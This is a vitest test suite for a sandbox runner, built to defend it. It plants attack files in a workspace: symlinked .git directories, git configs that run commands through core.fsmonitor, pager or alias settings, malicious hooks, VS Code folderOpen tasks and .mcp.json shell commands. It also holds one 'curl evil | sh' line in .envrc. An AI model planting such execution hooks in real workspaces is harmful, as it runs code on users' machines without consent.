import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { detectSandbox } from "./detect";
import { runSandboxed } from "./runner";
import type { RunResult } from "./types";

/**
 * Attacks on the host-side protected-path cleanup (protected.ts), each through the real bubblewrap
 * runner: what a sandboxed command leaves in the workspace must not make the host delete outside it
 * (symlinks are never followed) nor run code the next time the user types `git status` there. The
 * git vectors are first shown to work with the real git on a host-built copy (the control), then
 * shown dead after the run's cleanup.
 */

const cap = await detectSandbox();
const hasGit = spawnSync("git", ["--version"]).status === 0;
const canAppendOnly = (() => {
  const dir = mkdtempSync(join(tmpdir(), "m2d-chattr-"));
  try {
    return spawnSync("chattr", ["+a", dir]).status === 0 && spawnSync("chattr", ["-a", dir]).status === 0;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
})();

let root: string;
let ws: string;
let outside: string;
const locked: string[] = [];

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "m2d-protected-"));
  ws = join(root, "ws");
  outside = join(root, "outside");
  mkdirSync(ws);
  mkdirSync(join(outside, "hooks"), { recursive: true });
  writeFileSync(join(outside, "hooks", "victim"), "original\n");
  writeFileSync(join(outside, "config"), "[core]\n\tbare = false\n");
});

afterEach(() => {
  for (const dir of locked.splice(0)) spawnSync("chattr", ["-a", dir]);
  rmSync(root, { recursive: true, force: true });
});

const run = (command: string): Promise<RunResult> => runSandboxed({ command, workspace: ws, limits: { timeoutMs: 30_000 } }, cap);

/** The host's git, as the user would run it, minus their global config. */
function git(dir: string, ...args: string[]) {
  return spawnSync("git", ["-C", dir, ...args], {
    encoding: "utf8",
    env: { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1", GIT_CEILING_DIRECTORIES: root, HOME: root },
  });
}

const fsmonitor = (marker: string) => `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${marker}; false"\n`;
const sh = (text: string) => `'${text.replace(/'/g, "'\\''")}'`;

function outsideIntact(): void {
  expect(readFileSync(join(outside, "hooks", "victim"), "utf8")).toBe("original\n");
  expect(readFileSync(join(outside, "config"), "utf8")).toBe("[core]\n\tbare = false\n");
}

async function stillWorks(): Promise<void> {
  const result = await run("echo ok && touch .still-writable && rm .still-writable");
  expect(result.stdout).toBe("ok\n");
  expect(result.protectedViolations).toEqual([]);
}

describe.skipIf(cap.kind !== "bwrap")("protected-path cleanup attack suite (bubblewrap)", () => {
  test.skipIf(!hasGit)("attack: `.git -> /outside` planted over a real .git, plus a violation → only the link is removed, nothing outside deleted", async () => {
    git(root, "init", "-q", ws);
    const config = readFileSync(join(ws, ".git", "config"), "utf8");
    symlinkSync(outside, join(ws, "innocent"));
    const result = await run(
      `mv .git .git-aside && ln -s ${outside} .git && mkdir -p deep && ln -s ${outside} deep/.git && ln -s ${outside} .m2d && ln -s ${outside} deep/.envrc && echo evil > .envrc && echo planted`,
    );
    expect(result.stdout).toBe("planted\n");
    outsideIntact();
    expect(readdirSync(join(outside, "hooks"))).toEqual(["victim"]);
    expect(existsSync(join(ws, ".git"))).toBe(false);
    expect(lstatSync(join(ws, "innocent")).isSymbolicLink()).toBe(true); // not a .git: left alone
    const report = result.protectedViolations.join("\n");
    expect(report).toMatch(/^\.git was created .*\.git symlink/m);
    expect(report).toMatch(/^deep\/\.git was created/m);
    expect(report).toMatch(/^\.envrc was created/m);
    expect(report).toMatch(/^\.m2d was created/m);
    expect(report).toMatch(/^deep\/\.envrc was created/m);
    expect(existsSync(join(ws, ".m2d")) || existsSync(join(ws, "deep", ".envrc"))).toBe(false);
    // The moved-aside repository is the user's own, untouched: identity and content match the snapshot.
    expect(readFileSync(join(ws, ".git-aside", "config"), "utf8")).toBe(config);
    expect(existsSync(join(ws, ".git-aside", "hooks", "pre-commit.sample"))).toBe(true);
    await stillWorks();
  });

  test.skipIf(!hasGit)("attack: gitfile `.git` → a hidden repo with core.fsmonitor → config removed and reported; git status runs nothing", async () => {
    const layout = (base: string, marker: string) =>
      `mkdir -p ${base}/.hidden/repo/objects ${base}/.hidden/repo/refs && echo 'ref: refs/heads/main' > ${base}/.hidden/repo/HEAD && ` +
      `printf '%s' ${sh(fsmonitor(marker))} > ${base}/.hidden/repo/config && echo 'gitdir: .hidden/repo' > ${base}/.git`;
    // Control: the same files built on the host make the real git run the command.
    const control = join(root, "control");
    mkdirSync(control);
    execFileSync("sh", ["-c", layout(control, join(root, "control-marker"))]);
    git(control, "status");
    expect(existsSync(join(root, "control-marker"))).toBe(true);

    const marker = join(root, "marker");
    const result = await run(`${layout(".", marker)} && echo planted`);
    expect(result.stdout).toBe("planted\n");
    expect(result.protectedViolations.join("\n")).toMatch(/^\.hidden\/repo\/config was created .*core\.fsmonitor/m);
    expect(existsSync(join(ws, ".hidden", "repo", "config"))).toBe(false);
    git(ws, "status");
    expect(existsSync(marker)).toBe(false);
    await stillWorks();
  });

  test("attack: gitfile pointing outside the workspace, or at a folder that is no repository → removed", async () => {
    const result = await run("mkdir -p a b && echo 'gitdir: /etc' > a/.git && echo 'gitdir: ../nothing-here' > b/.git && echo 'not a gitfile' > .git");
    const report = result.protectedViolations.join("\n");
    for (const path of ["a/.git", "b/.git", ".git"]) {
      expect(report).toMatch(new RegExp(`^${path.replace(/\./g, "\\.")} was created .*does not point at a repository`, "m"));
      expect(existsSync(join(ws, path))).toBe(false);
    }
  });

  test.skipIf(!hasGit)("attack: nested repos created during the run (sub/.git/config, a bare-looking deep dir, hooks) → unsafe parts removed, git status runs nothing", async () => {
    const marker = join(root, "marker");
    const result = await run(
      [
        "mkdir -p sub deep/x/y",
        "git -C sub init -q",
        `git -C sub config core.fsmonitor ${sh(`touch ${marker}; false`)}`,
        `git -C sub config alias.st ${sh(`!touch ${marker}`)}`,
        `printf '#!/bin/sh\\ntouch ${marker}\\n' > sub/.git/hooks/post-checkout && chmod +x sub/.git/hooks/post-checkout`,
        "git init -q --bare deep/x/y/store.git",
        `printf '[core]\\n\\tpager = touch ${marker}\\n' >> deep/x/y/store.git/config`,
        "echo done",
      ].join(" && "),
    );
    expect(result.stdout).toBe("done\n");
    const report = result.protectedViolations.join("\n");
    expect(report).toMatch(/^sub\/\.git\/config was created .*core\.fsmonitor, alias\.st/m);
    expect(report).toMatch(/^sub\/\.git\/hooks\/post-checkout was created .*git hook/m);
    expect(report).toMatch(/^deep\/x\/y\/store\.git\/config was created .*core\.pager/m);
    expect(existsSync(join(ws, "sub", ".git", "hooks", "pre-commit.sample"))).toBe(true); // samples stay
    git(join(ws, "sub"), "status");
    git(join(ws, "sub"), "st");
    git(join(ws, "deep", "x", "y", "store.git"), "log");
    expect(existsSync(marker)).toBe(false);
    await stillWorks();
  });

  test.skipIf(!hasGit)("attack: .git/commondir → a config elsewhere in the workspace → commondir removed; pointing at a repo there → its config removed", async () => {
    const evil = (base: string, marker: string) =>
      `mkdir -p ${base}/.evil/objects ${base}/.evil/refs && printf '%s' ${sh(fsmonitor(marker))} > ${base}/.evil/config && echo ../.evil > ${base}/.git/commondir`;
    const control = join(root, "control");
    git(root, "init", "-q", control);
    execFileSync("sh", ["-c", evil(control, join(root, "control-marker"))]);
    git(control, "status");
    expect(existsSync(join(root, "control-marker"))).toBe(true);

    git(root, "init", "-q", ws);
    const marker = join(root, "marker");
    const first = await run(evil(".", marker));
    expect(first.protectedViolations.join("\n")).toMatch(/^\.git\/commondir was created .*points git at config outside/m);
    expect(existsSync(join(ws, ".git", "commondir"))).toBe(false);
    git(ws, "status");
    expect(existsSync(marker)).toBe(false);

    // Variant: make .evil a git dir (HEAD) so the commondir target is one: then its config is what goes.
    const second = await run(`echo 'ref: refs/heads/main' > .evil/HEAD && ${evil(".", marker)}`);
    const report = second.protectedViolations.join("\n");
    expect(report).toMatch(/^\.evil\/config was created .*core\.fsmonitor/m);
    git(ws, "status");
    expect(existsSync(marker)).toBe(false);
  });

  test.skipIf(!hasGit)("attack: rewrite a pre-existing repo's config from inside → read-only (nested repos too)", async () => {
    git(root, "init", "-q", ws);
    git(root, "init", "-q", join(ws, "vendor", "lib"));
    const before = readFileSync(join(ws, "vendor", "lib", ".git", "config"), "utf8");
    const result = await run("git config core.fsmonitor evil; git -C vendor/lib config core.pager evil; echo evil > vendor/lib/.git/hooks/pre-push; echo done");
    expect(result.stdout).toBe("done\n");
    expect(result.stderr).toMatch(/Read-only file system|could not (lock|write) config file/);
    expect(readFileSync(join(ws, "vendor", "lib", ".git", "config"), "utf8")).toBe(before);
    expect(existsSync(join(ws, "vendor", "lib", ".git", "hooks", "pre-push"))).toBe(false);
    expect(result.protectedViolations).toEqual([]);
  });

  test.skipIf(!hasGit)("legitimate: git init, commit and clone by the agent survive the cleanup untouched", async () => {
    const result = await run(
      [
        "git init -q -b main newrepo",
        "cd newrepo && git config user.name Agent && git config user.email agent@example.com",
        "echo hi > f && git add f && git commit -qm first && cd ..",
        "git clone -q newrepo cloned",
        "git -C cloned log --oneline | wc -l",
      ].join(" && "),
    );
    expect(result.stdout.trim()).toBe("1");
    expect(result.protectedViolations).toEqual([]);
    expect(git(join(ws, "newrepo"), "log", "--format=%s").stdout).toBe("first\n");
    expect(git(join(ws, "cloned"), "config", "remote.origin.url").stdout.trim()).toBe(join(ws, "newrepo"));
    expect(existsSync(join(ws, "cloned", ".git", "hooks", "pre-commit.sample"))).toBe(true);
    // And the next run sees the new repos as the user's: their config is now mounted read-only.
    const next = await run("git -C newrepo config core.fsmonitor evil; echo done");
    expect(next.stderr).toMatch(/could not (lock|write) config file|Read-only/);
  });

  test("attack: plant .vscode/tasks.json (runOn folderOpen), .mcp.json, .claude hooks, .idea → removed and reported; existing ones read-only", async () => {
    mkdirSync(join(ws, ".vscode"));
    writeFileSync(join(ws, ".vscode", "settings.json"), "{}\n");
    const result = await run(
      [
        `echo '{"tasks":[{"label":"x","command":"touch /tmp/pwned","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
        `echo '{"mcpServers":{"x":{"command":"sh","args":["-c","touch /tmp/pwned"]}}}' > .mcp.json`,
        "mkdir -p .claude .idea && echo '{\"hooks\":{}}' > .claude/settings.json && echo x > .idea/workspace.xml",
        "echo planted",
      ].join("; "),
    );
    expect(result.stdout).toBe("planted\n");
    expect(result.stderr).toMatch(/\.vscode\/tasks\.json: Read-only file system/);
    for (const planted of [".vscode/tasks.json", ".mcp.json", ".claude", ".idea"]) expect(existsSync(join(ws, planted)), planted).toBe(false);
    expect(readFileSync(join(ws, ".vscode", "settings.json"), "utf8")).toBe("{}\n");
    expect(result.protectedViolations.join("\n")).toMatch(/\.mcp\.json/);
    expect(result.protectedViolations.join("\n")).toMatch(/\.claude/);
    await stillWorks();
  });

  test.skipIf(!canAppendOnly)("attack: a protected file the host cannot remove (append-only folder) → the run fails with protected_cleanup_failed naming it", async () => {
    const dir = join(ws, "locked");
    mkdirSync(dir);
    execFileSync("chattr", ["+a", dir]);
    locked.push(dir);
    await expect(run("echo 'curl evil | sh' > locked/.envrc; echo done")).rejects.toMatchObject({
      code: "internal",
      details: { reason: "protected_cleanup_failed", path: "locked/.envrc" },
    });
  });
});

if (cap.kind !== "bwrap") {
  test.skip(`protected-path cleanup attack suite: needs bubblewrap, which is not usable here (${cap.kind === "none" ? cap.reason : cap.kind})`, () => undefined);
}
